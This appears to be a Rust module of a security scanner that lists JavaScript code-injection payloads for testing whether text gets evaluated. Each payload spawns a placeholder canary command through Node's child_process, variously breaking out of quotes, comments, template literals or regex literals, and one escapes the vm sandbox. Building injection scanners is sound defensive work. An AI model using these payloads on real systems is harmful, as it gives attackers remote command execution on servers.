//! Payloads for text that JavaScript evaluates.
//!
//! Each starts the canary with `spawnSync`, which needs no shell. `process.getBuiltinModule` is
//! there from Node 20.16 on (release notes of 20.16.0), `process.mainModule`
//! wherever the main module is CommonJS. Measured on Node 16 to 24 with a CommonJS main module and
//! on 20 to 24 with an ECMAScript one. An ECMAScript main module before Node 20.16 offers neither,
//! and `import()` is no way out: it is refused in `vm` code and its rejection would end the function.

use super::{Effect, Payload, PayloadClass};

const fn javascript(id: &'static str, template: &'static str, why: &'static str) -> Payload {
    Payload::new(PayloadClass::JavaScriptCode, id, template, Effect::Command, why)
}

/// Best first.
pub(super) const PAYLOADS: &[Payload] = &[
    // The bare expression, then out of a template literal, single and double quotes: in each
    // reading the other parts are a comment or string constants. The first part may hold no
    // quotes, so its strings are `.source` of a regular expression and names of classes.
    javascript(
        "javascript-polyglot",
        r#"constructor.constructor(/return process.getBuiltinModule||(m=>process.mainModule.require(m))/.source)()((class child_process{}).name).spawnSync((class {C}{}).name)/*${constructor.constructor(`return process.getBuiltinModule||(m=>process.mainModule.require(m))`)()(`child_process`).spawnSync(`{C}`)}'+constructor.constructor('return process.getBuiltinModule||(m=>process.mainModule.require(m))')()('child_process').spawnSync('{C}')+'"+constructor.constructor("return process.getBuiltinModule||(m=>process.mainModule.require(m))")()("child_process").spawnSync("{C}")+"*/"#,
        "an expression bare, in a template literal, in single and in double quotes; elsewhere its parts are comments or strings",
    ),
    // Out of `/*…*/` and of `//…`.
    javascript(
        "javascript-comment",
        "*/;(process.getBuiltinModule||(m=>process.mainModule.require(m)))('child_process').spawnSync('{C}')/*\n;(process.getBuiltinModule||(m=>process.mainModule.require(m)))('child_process').spawnSync('{C}')//",
        "ends both kinds of comments",
    ),
    // Out of `/…/`.
    javascript(
        "javascript-regex",
        "a/,(process.getBuiltinModule||(m=>process.mainModule.require(m)))('child_process').spawnSync('{C}'),/a",
        "leaves the literal of a regular expression",
    ),
    javascript(
        "javascript-expression",
        "(process.getBuiltinModule||(m=>process.mainModule.require(m)))('child_process').spawnSync('{C}')",
        "any place where an expression may stand",
    ),
    // Short, for a field with a length limit; needs Node 20.16, as Lambda has (and no main module).
    javascript(
        "javascript-short",
        "process.getBuiltinModule('child_process').spawnSync('{C}')",
        "short, for a field with a length limit; Node 20.16 and later",
    ),
    javascript(
        "javascript-short-single-quotes",
        "'+process.getBuiltinModule('child_process').spawnSync('{C}')+'",
        "leaves single quotes, short",
    ),
    // Inside a template literal whose quotes are removed or escaped.
    javascript(
        "javascript-template",
        "${(process.getBuiltinModule||(m=>process.mainModule.require(m)))((class child_process{}).name).spawnSync((class {C}{}).name)}",
        "a template literal whose quotes are removed or escaped",
    ),
    javascript(
        "javascript-no-quotes",
        "(process.getBuiltinModule||(m=>process.mainModule.require(m)))((class child_process{}).name).spawnSync((class {C}{}).name)",
        "words without quotes are names of classes",
    ),
    // `vm.runInNewContext` has no `process`, but its `constructor.constructor` is our `Function`.
    javascript(
        "javascript-vm",
        "constructor.constructor('return process.getBuiltinModule||(m=>process.mainModule.require(m))')()('child_process').spawnSync('{C}')",
        "vm.runInNewContext has no process, but its constructor.constructor is our Function",
    ),
    javascript(
        "javascript-double-quotes",
        r#""+(process.getBuiltinModule||(m=>process.mainModule.require(m)))("child_process").spawnSync("{C}")+""#,
        "leaves double quotes",
    ),
];

/// The form that a person understands best.
pub(super) const CANONICAL: &Payload = &PAYLOADS[3];
